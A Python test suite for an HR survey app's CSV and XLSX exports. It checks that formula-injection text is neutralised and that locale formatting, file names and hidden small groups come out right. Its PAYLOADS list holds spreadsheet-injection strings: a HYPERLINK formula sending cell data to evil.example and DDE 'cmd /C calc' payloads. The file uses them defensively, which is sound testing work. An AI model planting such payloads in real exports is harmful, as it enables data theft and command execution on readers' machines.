"""Exports: every CSV and XLSX file the app hands out keeps text as text, in the reader's language.

Each text a person can type that reaches an export (department and manager names, question texts,
survey titles, people's names and e-mails, plan and milestone titles, payment references) is fed a
formula, the file is downloaded through the app and read back with ``csv`` and ``openpyxl``.
"""

import csv
import io
import re
import zipfile
from datetime import date, datetime
from decimal import Decimal

import pandas as pd
import pytest
import sqlalchemy as sa
from flask_babel import refresh
from openpyxl import load_workbook

from rewards import ledger as rewards_ledger
from rewards import plans as rewards_plans
from rewards import transitions as rewards_transitions
from rewards.models import Milestone, MilestonePlan
from scoring import enps
from spreadsheets import Table, escape_text, file_name, write_csv, write_xlsx
from surveys import building
from tests import rewards_support as support
from tests.rewards_support import EVIDENCE, NOW, plan_data

parties = support.parties  # a fixture

PAYLOADS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
)
BOM = b"\xef\xbb\xbf"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


def in_csv(text: str) -> str:
    """What a CSV cell holding ``text`` must read: the text, after an apostrophe if it could start a formula."""
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def in_xlsx(text: str) -> str:
    """What an XLSX string cell holding ``text`` must read: the text, line breaks as Excel's LF."""
    return text.replace("\r\n", "\n").replace("\r", "\n")


def is_number(cell: str) -> bool:
    return re.fullmatch(r"-?\d+([.,]\d+)?", cell) is not None


def csv_rows(response, separator: str = ",") -> list[list[str]]:
    """The CSV's rows, after checking it is UTF-8 with a BOM and that no text cell can start a formula."""
    assert response.status_code == 200
    assert response.mimetype == "text/csv" and response.mimetype_params["charset"] == "utf-8"
    assert response.data.startswith(BOM)
    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"), newline=""), delimiter=separator))
    for row in rows:
        for cell in row:
            # Only a number may start with "-"; any other cell that could start a formula carries the apostrophe.
            assert not cell.startswith(FORMULA_STARTS) or is_number(cell), (cell, row)
    return rows


def csv_records(response, separator: str = ",") -> list[dict[str, str]]:
    header, *rows = csv_rows(response, separator)
    return [dict(zip(header, row, strict=True)) for row in rows]


def xlsx_sheets(response) -> dict[str, list[list]]:
    """Each sheet's rows of values, after checking that no cell is a formula and every text is a string cell."""
    assert response.status_code == 200 and response.mimetype == XLSX
    with zipfile.ZipFile(io.BytesIO(response.data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<(\w+:)?f[ >]", archive.read(name)), name
    book = load_workbook(io.BytesIO(response.data))
    sheets = {}
    for sheet in book.worksheets:
        rows = []
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", cell.coordinate
                if isinstance(cell.value, str):
                    assert cell.data_type == "s" and cell.quotePrefix, (cell.coordinate, cell.value)
                elif cell.value is not None:
                    assert isinstance(cell.value, int | float | datetime), (cell.coordinate, cell.value)
            rows.append([cell.value for cell in row])
        sheets[sheet.title] = rows
    return sheets


def xlsx_records(response) -> list[dict]:
    records = []
    for header, *rows in xlsx_sheets(response).values():
        records.extend(dict(zip(header, row, strict=True)) for row in rows)
    return records


def login(client, email: str) -> None:
    assert client.post("/login", data={"email": email, "password": "correct horse battery"}).status_code == 302
    refresh()  # the test's app context outlives a request: drop the language it cached


def speak(db, person, locale: str | None) -> None:
    person.locale = locale
    db.session.commit()
    refresh()


# --- Results: /results/export.csv and .xlsx ------------------------------------------------


def likert(closed):
    return next(q for q in closed["survey"].questions if q.kind == "likert")


def name_everything(db, org, closed, turn: int) -> dict[str, str]:
    """Give every text a results export shows a different formula payload; ``turn`` rotates which gets which."""
    targets = {"big": org["big"], "tiny": org["tiny"], "parent": org["parent"], "child": org["child"],
               "boss": org["boss"], "tiny_boss": org["tiny_boss"], "question": None, "title": None}
    names = {key: PAYLOADS[(turn + i) % len(PAYLOADS)] + f" #{i}" for i, key in enumerate(targets)}
    for key, target in targets.items():
        if target is not None:
            target.name = names[key]
            if hasattr(target, "name_key"):
                target.name_key = names[key].lower()
    likert(closed).text = names["question"]
    closed["survey"].title = names["title"]
    db.session.commit()
    return names


def results(client, fmt: str, **query) -> tuple:
    response = client.get(f"/results/export.{fmt}", query_string=query)
    assert response.headers["Cache-Control"] == "no-store"
    return response, csv_records(response) if fmt == "csv" else xlsx_records(response)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_results_exports_keep_every_name_and_question_as_text(client, db, org, closed, fmt):
    login(client, "hr@example.com")
    text = in_csv if fmt == "csv" else in_xlsx
    for turn in range(len(PAYLOADS)):
        names = name_everything(db, org, closed, turn)
        response, rows = results(client, fmt)
        groups = {r["Group"] for r in rows if r["Section"] == "Breakdown"}
        assert groups == {text(names["big"]), text(names["tiny"]), text(names["parent"])}
        assert [r["Question"] for r in rows if r["Section"] == "Drivers"] == [text(names["question"])]
        _, rows = results(client, fmt, department=org["parent"].id)
        assert {r["Group"] for r in rows if r["Section"] == "Trend"} == {text(names["parent"])}
        assert {r["Group"] for r in rows if r["Section"] == "Breakdown"} == {text(names["child"])}
        _, rows = results(client, fmt, team=org["boss"].id)
        assert {r["Group"] for r in rows if r["Section"] == "Trend"} == {text(names["boss"])}
        assert {r["Group"] for r in rows if r["Section"] == "Breakdown"} == {text(names["tiny_boss"])}
        # The survey's title reaches the file name only, as a slug: nothing in the header but the name.
        disposition = response.headers["Content-Disposition"]
        assert re.fullmatch(r"attachment; filename=\"polso-[a-z0-9-]+\.\w+\"; "
                            r"filename\*=UTF-8''polso-[a-z0-9-]+\.\w+", disposition), disposition


def test_results_csv_is_english_with_commas_and_decimal_points(client, closed):
    login(client, "hr@example.com")
    response = client.get("/results/export.csv")
    header = csv_rows(response)[0]
    assert header == ["Section", "Round closing", "Group", "Question", "Status", "Answers", "eNPS",
                      "95% interval, low", "95% interval, high", "Promoters", "Passives", "Detractors",
                      "Favorable (%)", "Neutral (%)", "Unfavorable (%)", "Mean (1–5)", "Invited who answered (%)",
                      "Invited"]
    company = next(r for r in csv_records(response) if r["Section"] == "Trend")
    score = round(enps([3, 0, 0, 0, 0, 0, 0, 2, 10, 12, 0]).score, 1)
    assert company["Group"] == "Company" and company["Status"] == "Shown" and company["Answers"] == "27"
    assert company["eNPS"] == str(score) and company["Round closing"] == closed["round"].closes_at.date().isoformat()


def test_italian_results_csv_uses_semicolons_decimal_commas_and_italian_words(client, db, org, closed):
    likert(closed).text_it = "=Il carico di lavoro è gestibile"
    db.session.commit()
    login(client, "hr@example.com")
    speak(db, org["hr"], "it")
    response = client.get("/results/export.csv")
    header = csv_rows(response, ";")[0]
    assert header[1:6] == ["Chiusura della rilevazione", "Gruppo", "Domanda", "Stato", "Risposte"]
    assert header[-2:] == ["Invitati che hanno risposto (%)", "Invitati"]
    rows = csv_records(response, ";")
    company = rows[0]
    score = round(enps([3, 0, 0, 0, 0, 0, 0, 2, 10, 12, 0]).score, 1)
    assert company["Gruppo"] == "Azienda" and company["eNPS"] == f"{score}".replace(".", ",")
    assert "," in company["eNPS"] and company["Risposte"] == "27"
    tiny = next(r for r in rows if r["Gruppo"] == "Tiny")
    assert tiny["Stato"] == "Nascosto: meno di 5 persone in questo gruppo."
    assert [r["Domanda"] for r in rows if r["Domanda"]] == ["'=Il carico di lavoro è gestibile"]


def test_italian_results_xlsx_has_italian_headers_and_typed_numbers(client, db, org, closed):
    login(client, "hr@example.com")
    speak(db, org["hr"], "it")
    sheets = xlsx_sheets(client.get("/results/export.xlsx"))
    assert len(sheets) == 3
    header, company = next(iter(sheets.values()))
    assert header[1:6] == ["Chiusura della rilevazione", "Gruppo", "Domanda", "Stato", "Risposte"]
    values = dict(zip(header, company, strict=True))
    assert values["Gruppo"] == "Azienda" and values["Risposte"] == 27
    assert values["eNPS"] == pytest.approx(enps([3, 0, 0, 0, 0, 0, 0, 2, 10, 12, 0]).score, abs=0.05)
    closes_on = closed["round"].closes_at.date()
    assert values["Chiusura della rilevazione"] == datetime(closes_on.year, closes_on.month, closes_on.day)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_hidden_results_say_why_in_words_and_carry_no_number(client, closed, fmt):
    login(client, "hr@example.com")
    response, rows = results(client, fmt)
    tiny = next(r for r in rows if r["Group"] == "Tiny")
    assert tiny["Status"] == "Hidden: fewer than 5 people in this group."
    assert all(tiny[c] in (None, "") for c in list(tiny)[5:])
    assert b"k=" not in response.data and b"too_few" not in response.data


def test_export_hides_exactly_what_the_page_hides_in_the_same_words(client, closed):
    login(client, "hr@example.com")
    html = client.get("/results").get_data(as_text=True)
    page = {m.group(1): re.sub(r"<[^>]+>", "", m.group(2)).strip()
            for m in re.finditer(r"<th scope=\"row\">([^<]*)</th>(.*?)</tr>", html, re.S)
            if 'colspan="' in m.group(2)}
    _, rows = results(client, "csv")
    export = {r["Group"]: r["Status"] for r in rows if r["Section"] == "Breakdown" and r["Status"] != "Shown"}
    assert export == page and export


def test_results_file_names_say_survey_group_and_round(client, db, org, closed):
    closes_on = closed["round"].closes_at.date().isoformat()
    closed["survey"].title = "Weekly Pulse"
    db.session.commit()
    login(client, "hr@example.com")
    names = {}
    for fmt, query in (("csv", {}), ("csv", {"department": org["big"].id}), ("xlsx", {"team": org["boss"].id})):
        response = client.get(f"/results/export.{fmt}", query_string=query)
        names[(fmt, *query)] = re.search(r'filename="([^"]+)"', response.headers["Content-Disposition"]).group(1)
    assert names == {("csv",): f"polso-weekly-pulse-{closes_on}.csv",
                     ("csv", "department"): f"polso-weekly-pulse-big-{closes_on}.csv",
                     ("xlsx", "team"): f"polso-weekly-pulse-team-of-bea-boss-{closes_on}.xlsx"}


def test_file_name_with_accents_has_an_ascii_fallback_and_the_utf8_name(client, db, closed):
    closes_on = closed["round"].closes_at.date().isoformat()
    closed["survey"].title = "Qualità del lavoro"
    db.session.commit()
    login(client, "hr@example.com")
    response = client.get("/results/export.csv")
    assert response.headers["Content-Disposition"] == (
        f"attachment; filename=\"polso-qualita-del-lavoro-{closes_on}.csv\"; "
        f"filename*=UTF-8''polso-qualit%C3%A0-del-lavoro-{closes_on}.csv")


def test_results_export_without_closed_rounds_is_headers_only(client, org):
    login(client, "hr@example.com")
    building.create_survey({"title": "Pulse", "cadence": "weekly", "starts_on": "2026-03-02",
                            "questions": [{"library_key": "enps", "required": True}]}, NOW)
    assert len(csv_rows(client.get("/results/export.csv"))) == 1
    assert [len(rows) for rows in xlsx_sheets(client.get("/results/export.xlsx")).values()] == [1, 1, 1]


# --- Payouts: /rewards/payouts.csv -----------------------------------------------------------


def pay_to_payloads(db, factory, parties) -> list[int]:
    """One paid milestone per payload, with the payload in every text the ledger export shows.

    Names, e-mails, departments and titles are set on the rows themselves (a draft's terms may
    change), so even a leading tab or carriage return, which the forms strip, reaches the export.
    The reference goes through ``pay`` as HR would type it.
    """
    plans = []
    for i, payload in enumerate(PAYLOADS):
        department = factory.department(f"Payroll {i}")
        person = factory.person(f"payee{i}@example.com", kind="contractor", department=department,
                                manager=parties["approver"])
        plan = rewards_plans.create_plan(plan_data(recipient=person.email, title=f"Plan {i}"), parties["hr_admin"], NOW)
        plan.title = payload + " plan"
        plan.milestones[0].title = payload + " milestone"
        db.session.commit()
        steps = [(person, "agree", {}), (parties["approver"], "agree", {}), (person, "submit", EVIDENCE),
                 (parties["approver"], "approve", {}), (parties["hr_admin"], "pay", {"reference": payload + " ref"})]
        for actor, action, data in steps:
            rewards_transitions.perform(plan.milestones[0].id, action, actor, data, NOW)
        person.name, person.email = payload + " name", (payload + f" {i}@example.com").lower()
        department.name = payload + " department"
        db.session.commit()
        plans.append(plan.id)
    return plans


def stored_ledger(db, plan_ids: list[int]) -> list[tuple[str, ...]]:
    """Each plan's texts as stored: e-mail, name, department, plan, milestone, reference."""
    out = []
    for plan_id in plan_ids:
        plan = db.session.get(MilestonePlan, plan_id)
        milestone = db.session.scalar(sa.select(Milestone).where(Milestone.plan_id == plan_id))
        payout = rewards_ledger.plan_payouts(plan)[0]
        person = plan.recipient
        out.append((person.email, person.name, person.department.name, plan.title, milestone.title,
                    payout.reference))
    return out


def test_payouts_csv_keeps_every_text_as_text(client, db, factory, parties):
    plan_ids = pay_to_payloads(db, factory, parties)
    login(client, "hr@example.com")
    response = client.get("/rewards/payouts.csv")
    assert response.headers["Cache-Control"] == "no-store"
    header, *rows = csv_rows(response)
    assert header == ["Paid on", "E-mail", "Recipient", "Kind", "Department", "Plan", "Milestone", "Amount",
                      "Currency", "Reference"]
    stored = stored_ledger(db, plan_ids)
    assert len(rows) == len(stored) == len(PAYLOADS)
    for row, texts in zip(rows, stored, strict=True):
        assert [row[1], row[2], row[4], row[5], row[6], row[9]] == [in_csv(t) for t in texts]
        assert row[3] == "Contractor" and row[7] == "1000.00" and row[8] == "EUR"
    # The leading tab and carriage return came through in the texts set on the rows.
    assert any(t.startswith("\t") for t in stored[4]) and any(t.startswith("\r") for t in stored[5])


def test_italian_payouts_csv_uses_semicolons_decimal_commas_and_italian_words(client, db, factory, parties):
    plan = rewards_plans.create_plan(plan_data(count=1), parties["hr_admin"], NOW)
    support.drive(parties, plan.milestones[0].id, "paid")
    login(client, "hr@example.com")
    speak(db, parties["hr_admin"], "it")
    header, row = csv_rows(client.get("/rewards/payouts.csv"), ";")
    assert header[:4] == ["Data di pagamento", "E-mail", "Beneficiario", "Tipo di rapporto"]
    assert header[-4:] == ["Traguardo", "Importo", "Valuta", "Riferimento"]
    assert row[3] == "Collaboratore esterno" and row[7] == "1000,00" and row[8] == "EUR"


def test_payouts_file_name_says_the_period(client, parties):
    login(client, "hr@example.com")
    response = client.get("/rewards/payouts.csv?from=2026-03-01&to=2026-03-31")
    assert response.headers["Content-Disposition"] == (
        "attachment; filename=\"polso-payouts-from-2026-03-01-to-2026-03-31.csv\"; "
        "filename*=UTF-8''polso-payouts-from-2026-03-01-to-2026-03-31.csv")
    assert csv_rows(response)[0][0] == "Paid on"


# --- The writer itself -------------------------------------------------------------------------


@pytest.mark.parametrize("text", [*PAYLOADS, "＝1+2", "＋1", "－1", "＠A1"])
def test_text_that_could_start_a_formula_gets_an_apostrophe(text):
    assert escape_text(text) == "'" + text


@pytest.mark.parametrize("text", ["Engineering", "", " =1+1", "1+1", "'quoted", "A|B", "50%"])
def test_other_text_is_left_as_it_is(text):
    assert escape_text(text) == text


def test_csv_writes_numbers_as_numbers_and_text_as_text():
    table = Table(["Name", "Score", "Amount", "Count", "Day", "Empty"],
                  [["-12", -12.5, Decimal("1000.00"), 3, date(2026, 3, 2), None],
                   ["=A1", 1e-05, Decimal("-0.5"), 0, datetime(2026, 3, 2, 10, 30), float("nan")]])
    english = write_csv(table, "en").decode("utf-8-sig")
    italian = write_csv(table, "it").decode("utf-8-sig")
    assert english.splitlines()[1:] == ["'-12,-12.5,1000.00,3,2026-03-02,",
                                        "'=A1,0.00001,-0.5,0,2026-03-02 10:30:00,"]
    assert italian.splitlines()[1:] == ["'-12;-12,5;1000,00;3;2026-03-02;",
                                        "'=A1;0,00001;-0,5;0;2026-03-02 10:30:00;"]
    assert "\r\n" in english


def test_a_cell_of_another_kind_is_refused():
    with pytest.raises(TypeError):
        write_csv(Table(["Flag"], [[True]]), "en")
    with pytest.raises(TypeError):
        write_xlsx([Table(["Flag"], [[object()]])])


def test_xlsx_sheet_names_are_valid_and_unique():
    book = load_workbook(io.BytesIO(write_xlsx([Table(["A"], [], title="Trend: a/b [1]?"), Table(["A"], []),
                                                Table(["A"], [], title="trend  a b  1"),
                                                Table(["A"], [], title="x" * 40)])))
    assert book.sheetnames == ["Trend  a b  1", "Sheet", "trend  a b  1 (2)", "x" * 31]


def test_xlsx_drops_characters_xml_cannot_hold():
    book = load_workbook(io.BytesIO(write_xlsx([Table(["A"], [["=a\x00b\x1fc\r\nd"]])])))
    cell = book.active["A2"]
    assert cell.value == "=abc\nd" and cell.data_type == "s"


def test_a_dataframe_becomes_a_table_with_empty_cells_for_missing_values():
    frame = pd.DataFrame({"Group": ["=A1", None], "n": [5, None], "Score": [1.5, float("nan")],
                          "Day": [pd.Timestamp("2026-03-02"), pd.NaT]}).astype({"n": "Int64"})
    table = Table.from_frame(frame, title="Heatmap")
    assert table.columns == ["Group", "n", "Score", "Day"] and table.title == "Heatmap"
    assert table.rows == [["=A1", 5, 1.5, datetime(2026, 3, 2)], [None, None, None, None]]
    assert write_csv(table, "en").decode("utf-8-sig").splitlines() == [
        "Group,n,Score,Day", "'=A1,5,1.5,2026-03-02 00:00:00", ",,,"]


def test_file_names_are_slugs_of_their_parts():
    assert file_name("Weekly Pulse", "Engineering", date(2026, 11, 30), extension="csv") == \
        "polso-weekly-pulse-engineering-2026-11-30.csv"
    assert file_name('=HYPERLINK("x")', None, "", "Qualità/Ufficio", extension="xlsx") == \
        "polso-hyperlink-x-qualità-ufficio.xlsx"
